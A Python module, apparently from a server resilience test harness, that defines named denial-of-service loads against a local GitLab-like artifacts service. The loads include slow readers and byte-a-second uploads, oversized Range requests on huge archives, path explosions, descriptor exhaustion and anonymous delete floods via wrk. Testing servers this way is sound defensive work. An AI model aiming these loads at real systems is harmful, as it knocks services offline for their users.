"""What is done to the server: each attack is a function that works until `stop` is set.

It comes from 127.0.0.2 where it does not say otherwise, so that bounds for an address tell it from the innocents
at 127.0.0.1.
"""

import contextlib
import socket
import subprocess
import threading
import urllib.parse
from dataclasses import dataclass, field

from .machine import find

SOURCE = "127.0.0.2"
PATIENCE_SECONDS = 60
JOBS = "/api/v4/projects/1/jobs"
# Jobs with an archive of four thousand names each.
FIRST_NAMES, NAMES = 4000, 600


@dataclass
class Target:
    """A server, and what the attack has to know of it."""

    url: str
    folder: str
    jobs: dict[str, int]
    stop: threading.Event = field(default_factory=threading.Event)

    def connect(self, receive_buffer: int | None = None, source: str = SOURCE) -> socket.socket:
        address = urllib.parse.urlsplit(self.url)
        client = socket.socket()
        if receive_buffer:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        client.settimeout(PATIENCE_SECONDS)
        client.bind((source, 0))
        client.connect((address.hostname, address.port))
        return client

    def path(self, archive: str, behind: str = "") -> str:
        return f"{JOBS}/{self.jobs[archive]}/artifacts{behind}"


def request(path: str, more: str = "", method: str = "GET") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: siege\r\n{more}\r\n".encode()


def crowd(target: Target, count: int, member) -> None:
    """Runs so many members at once until the end; each is given its number and a list for its sockets."""
    sockets: list[list[socket.socket]] = [[] for _ in range(count)]
    threads = [threading.Thread(target=quietly, args=(target, member, *each), daemon=True) for each in enumerate(sockets)]
    for thread in threads:
        thread.start()
    target.stop.wait()
    for client in [client for each in sockets for client in list(each)]:
        # A close alone would not wake who reads from it.
        with contextlib.suppress(OSError):
            client.shutdown(socket.SHUT_RDWR)
        client.close()
    for thread in threads:
        thread.join(5)


def quietly(target: Target, member, number: int, sockets: list) -> None:
    while not target.stop.is_set():
        with contextlib.suppress(OSError):
            member(number, sockets)
        target.stop.wait(0.02)


def asking(target: Target, count: int, of) -> None:
    """So many clients that ask for one thing after the other, and read what comes."""

    def member(number: int, sockets: list) -> None:
        turn = 0
        while not target.stop.is_set():
            client = target.connect()
            sockets.append(client)
            with client:
                client.sendall(of(number, turn))
                while client.recv(65536):
                    pass
            sockets.remove(client)
            turn += 1

    crowd(target, count, member)


def stalling(target: Target, count: int, of) -> None:
    """So many clients that ask once and read nothing of the answer."""

    def member(number: int, sockets: list) -> None:
        client = target.connect(receive_buffer=4096)
        sockets.append(client)
        client.sendall(of(number, 0))
        target.stop.wait()

    crowd(target, count, member)


CLOSE = "Connection: close\r\n"


def paths(target: Target) -> None:
    shapes = [f"/api/v4/projects/a/b/{'jobs/artifacts/r/raw/' * n}x" for n in (160, 375, 640, 900, 3000)]
    shapes += [f"/api/v4/projects/a/b/{'raw/' * 16000}x", f"/a/b/-/jobs/artifacts/{'raw/' * 16000}x",
               f"/api/v4/projects/a/b/{'jobs/1/artifacts/' * 3700}x"]
    asking(target, 4, lambda number, turn: request(shapes[(number + turn) % len(shapes)], CLOSE))


def skips(archive: str, last: int, clients: int):
    def attack(target: Target) -> None:
        asked = request(target.path(archive, "/z"), f"Range: bytes={last}-{last}\r\n{CLOSE}")
        asking(target, clients, lambda *_: asked)
    return attack


def windows(archive: str):
    def attack(target: Target) -> None:
        asked = request(target.path(archive, "/z"), "Range: bytes=104857600-\r\n")
        stalling(target, 150, lambda *_: asked)
    return attack


def one_byte_uploads(target: Target) -> None:
    """One job's token, 64 uploads at a byte a second."""
    job = target.jobs["attacker"]
    head = request(f"/api/v4/jobs/{job}/artifacts", f"JOB-TOKEN: glcbt-{job}\r\nContent-Length: 1000000\r\n"
                   "Content-Type: multipart/form-data; boundary=b\r\n", "POST")
    head += b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\n\r\n"

    def member(number: int, sockets: list) -> None:
        client = target.connect()
        sockets.append(client)
        client.sendall(head)
        while not target.stop.wait(1):
            client.sendall(b"x")

    crowd(target, 64, member)


def folders(target: Target) -> None:
    """One after the other, so that each finds the index of the one before it in the cache, and not its own."""

    def member(_: int, sockets: list) -> None:
        for number in range(24):
            client = target.connect(receive_buffer=4096)
            sockets.append(client)
            client.sendall(request(target.path(f"flat-{number % 2}.zip", "?path=x")))
            client.recv(1)
        target.stop.wait()

    crowd(target, 1, member)


def tree(clients: int):
    def attack(target: Target) -> None:
        asking(target, clients, lambda number, turn: request(
            target.path("flat-0.zip", f"/tree?per_page=100&page={(number * 97 + turn) % 9000 + 1}"), CLOSE))
    return attack


def idle(target: Target) -> None:
    """More connections than the server may have descriptors: a third each silent, with half a head, kept alive."""
    opened = [b"", b"GET / HTTP/1.1\r\nHost:", request("/-/liveness")]

    def member(number: int, sockets: list) -> None:
        for turn in range(67):
            client = target.connect()
            sockets.append(client)
            client.sendall(opened[(number + turn) % 3])
        target.stop.wait()

    crowd(target, 16, member)


def everything(target: Target) -> None:
    """More connections than there may be, half of them from the innocents' own address."""
    opened = [b"", b"GET / HTTP/1.1\r\nHost:", request("/-/liveness")]

    def member(number: int, sockets: list) -> None:
        source = ("127.0.0.1", SOURCE)[number % 2]
        for turn in range(50):
            client = target.connect(source=source)
            sockets.append(client)
            client.sendall(opened[turn % 3])
        while not target.stop.wait(0.1):
            # Those that were not admitted have ended, and are tried again.
            for client in [client for client in sockets if has_ended(client)]:
                sockets.remove(client)
                client.close()
                sockets.append(target.connect(source=source))

    crowd(target, 16, member)


def has_ended(client: socket.socket) -> bool:
    """Reads what there is."""
    client.setblocking(False)
    try:
        while received := client.recv(65536):
            pass
        return not received
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        client.settimeout(PATIENCE_SECONDS)


def long_lines(target: Target) -> None:
    """Requests whose lines of the log are some kilobytes long."""
    asking(target, 4, lambda *_: request(f"/api/v4/projects?search={'x' * 4000}", CLOSE))


def indexes(target: Target) -> None:
    """One file each out of archives whose indexes do not fit the cache together."""
    name = lambda number, turn: f"/file-{number % 6}-{turn % 900000:07}.txt"
    asking(target, 12, lambda number, turn: request(target.path(f"flat-{number % 6}.zip", name(number, turn)), CLOSE))


def small_indexes(target: Target) -> None:
    """One file each out of hundreds of archives: their indexes go in and out of the cache."""
    job = lambda number, turn: FIRST_NAMES + (number * 75 + turn) % NAMES
    asking(target, 8, lambda number, turn: request(
        f"{JOBS}/{job(number, turn)}/artifacts/reports/module-0001/test-00050.xml", CLOSE))


def anonymous_changes(target: Target) -> None:
    """Keep, delete and erase without a credential, as fast as wrk can."""
    script = f"{target.folder}/changes.lua"
    with open(script, "w") as file:
        file.write(f"""
            local asked, n = {{ {{"POST", "{JOBS}/1/artifacts/keep"}}, {{"DELETE", "{JOBS}/1/artifacts"}}, {{"POST", "{JOBS}/1/erase"}} }}, 0
            request = function() n = n + 1; local a = asked[n % 3 + 1]; return wrk.format(a[1], a[2]) end""")
    wrk = subprocess.Popen([find("wrk"), "-t1", "-c32", "-d600s", "-s", script, target.url], stdout=subprocess.DEVNULL)
    target.stop.wait()
    wrk.kill()
    wrk.wait()


def slow_readers(target: Target) -> None:
    """Whole archives, their folders and files, at some kilobytes a second each."""
    shapes = [target.path("flat-0.zip"), target.path("flat-1.zip", "/x/blob.bin"), target.path("flat-0.zip", "?path=x"),
              target.path("deflate-3.zip", "/z")]

    def member(number: int, sockets: list) -> None:
        client = target.connect(receive_buffer=4096)
        sockets.append(client)
        client.sendall(request(shapes[number % len(shapes)]))
        while not target.stop.wait(0.5) and client.recv(2048):
            pass

    crowd(target, 300, member)


@dataclass
class Attack:
    """A load, and what it is called."""

    about: str
    run: object
    files: int | None = None
    # The kinds of innocents that are there; none for all.
    kinds: tuple[str, ...] = ()
    # Whether nobody reads the server's log.
    unread: bool = False


GIGABYTE = 1 << 30

ATTACKS = {
    "quiet": Attack("nothing but the innocents", lambda target: target.stop.wait()),
    "paths": Attack("4 clients, paths of thousands of segments", paths),
    "skip-zstd-4": Attack("4 ranges at the end of 8 GB of zstd", skips("zstd-8.zip", 8 * GIGABYTE - 1, 4)),
    "skip-zstd-16": Attack("16 ranges at the end of 64 GB of zstd", skips("zstd-64.zip", 64 * GIGABYTE - 1, 16)),
    "skip-deflate-4": Attack("4 ranges at the end of 3 GB of deflate", skips("deflate-3.zip", 3 * GIGABYTE - 1, 4)),
    "skip-deflate-16": Attack("16 ranges at the end of 3 GB of deflate", skips("deflate-3.zip", 3 * GIGABYTE - 1, 16)),
    "windows-32": Attack("150 stalled readers of zstd, windows of 32 MiB", windows("window-32.zip")),
    "windows-8": Attack("150 stalled readers of zstd, windows of 8 MiB", windows("window-8.zip")),
    "one-byte-uploads": Attack("64 uploads of one job, a byte a second", one_byte_uploads),
    "folders": Attack("24 stalled folders of two archives of 1,000,000 names", folders),
    "tree-100": Attack("100 at once, pages of a tree of 1,000,000 names", tree(100)),
    "tree-200": Attack("200 at once, pages of a tree of 1,000,000 names", tree(200)),
    "idle": Attack("1,072 idle connections, 1,024 descriptors", idle, files=1024),
    "two-addresses": Attack("800 connections from two addresses, 528 admitted; only liveness is asked", everything,
                            files=1024, kinds=("liveness",)),
    "unread-log": Attack("nobody reads standard error, lines of 4 KB from 4 clients", long_lines, unread=True),
    "indexes": Attack("12 clients, 6 cold indexes of 1,000,000 names", indexes),
    "small-indexes": Attack("8 clients, 600 archives of 4,000 names in turn", small_indexes),
    "changes": Attack("keep, delete and erase by nobody, on 32 connections", anonymous_changes),
    "slow": Attack("300 slow readers", slow_readers),
}
